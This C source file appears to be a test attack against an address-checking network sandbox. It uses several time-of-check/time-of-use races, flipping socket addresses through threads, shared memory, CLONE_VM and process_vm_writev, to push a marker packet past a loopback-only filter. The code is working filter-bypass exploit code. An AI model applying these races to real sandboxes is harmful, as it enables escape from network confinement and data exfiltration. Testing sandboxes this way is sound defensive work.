// SPDX-License-Identifier: GPL-2.0-or-later
// The address in memory changes between the moment it is judged and the moment the kernel reads
// it: another thread flips it between loopback and the outside. argv: how, attempts. Prints how
// many attempts were made; what counts is what reached the outside.
//   sendto, connect   struct sockaddr flipped by a thread
//   sendmsg           msg_name of the msghdr switched between two addresses
//   sendmmsg          the same in the last of a vector
//   shared            sendto; the address in a shared mapping, flipped by another process
//   vm                the same by one that shares the memory (CLONE_VM)
//   writev            the same by one that writes it with process_vm_writev
//   nameless          msg_name of a connected socket's msghdr, from none to the outside
//   disconnect        connect; the family is AF_UNSPEC, which only disconnects, or not
#define _GNU_SOURCE
#include "attack.h"
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/uio.h>

static struct sockaddr_in here, there;
static volatile struct sockaddr_in *flipped;
static struct msghdr *message;
static volatile int stop;

static void *flip(void *unused)
{
	while (!stop) {
		flipped->sin_addr.s_addr = there.sin_addr.s_addr;
		flipped->sin_port = there.sin_port;
		__asm__ volatile("pause");
		flipped->sin_addr.s_addr = here.sin_addr.s_addr;
		flipped->sin_port = here.sin_port;
		__asm__ volatile("pause"); // as long innocent as not
	}
	return unused;
}

static void *usual = &here;

static void *flip_pointer(void *unused)
{
	while (!stop) {
		*(void *volatile *)&message->msg_name = &there;
		__asm__ volatile("pause");
		*(void *volatile *)&message->msg_name = usual;
		__asm__ volatile("pause");
	}
	return unused;
}

static void *flip_family(void *unused)
{
	*flipped = there;
	while (!stop) {
		flipped->sin_family = AF_INET;
		__asm__ volatile("pause");
		flipped->sin_family = AF_UNSPEC;
		__asm__ volatile("pause");
	}
	return unused;
}

static void flip_by_writev(void)
{
	while (1) {
		struct iovec theirs = {(void *)flipped, sizeof here}, ours = {&there, sizeof here};
		process_vm_writev(getppid(), &ours, 1, &theirs, 1, 0);
		ours.iov_base = &here;
		process_vm_writev(getppid(), &ours, 1, &theirs, 1, 0);
	}
}

static int by_clone(void *unused)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	flip(unused);
	return 0;
}

int main(int argc, char **argv)
{
	const char *how = argc > 1 ? argv[1] : "sendto";
	int attempts = argc > 2 ? atoi(argv[2]) : 1000, done = 0;
	struct iovec data = {"escaped", 7};
	struct mmsghdr vector[3];
	pthread_t thread;
	pid_t other = 0;

	here = loopback(), there = outside();
	flipped = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	*flipped = here;
	memset(vector, 0, sizeof vector);
	for (int i = 0; i < 3; i++)
		vector[i].msg_hdr = (struct msghdr){.msg_name = &here, .msg_namelen = sizeof here,
						    .msg_iov = &data, .msg_iovlen = 1};
	message = &vector[strcmp(how, "sendmmsg") ? 0 : 2].msg_hdr;
	static char stack[65536] __attribute__((aligned(16)));
	if (!strcmp(how, "nameless"))
		usual = NULL;
	if (!strcmp(how, "shared")) {
		if ((other = fork()) == 0)
			flip(NULL);
	} else if (!strcmp(how, "writev")) {
		if ((other = fork()) == 0)
			flip_by_writev();
	} else if (!strcmp(how, "vm")) {
		other = clone(by_clone, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
	} else if (!strcmp(how, "disconnect")) {
		pthread_create(&thread, NULL, flip_family, NULL);
	} else if (!strcmp(how, "nameless")) {
		pthread_create(&thread, NULL, flip_pointer, NULL);
	} else {
		pthread_create(&thread, NULL, strstr(how, "msg") ? flip_pointer : flip, NULL);
	}
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (!usual && connect(fd, (void *)&here, sizeof here))
		return 9;
	for (; done < attempts; done++) {
		if (!strcmp(how, "sendmsg") || !usual)
			sendmsg(fd, message, 0);
		else if (!strcmp(how, "sendmmsg"))
			sendmmsg(fd, vector, 3, 0);
		else if (strstr(how, "connect")) {
			if (connect(fd, (void *)flipped, sizeof here) == 0)
				send(fd, "escaped", 7, 0);
		} else
			sendto(fd, "escaped", 7, 0, (void *)flipped, sizeof here);
	}
	stop = 1;
	if (other)
		kill(other, SIGKILL);
	printf("%d attempts\n", done);
	return 0;
}
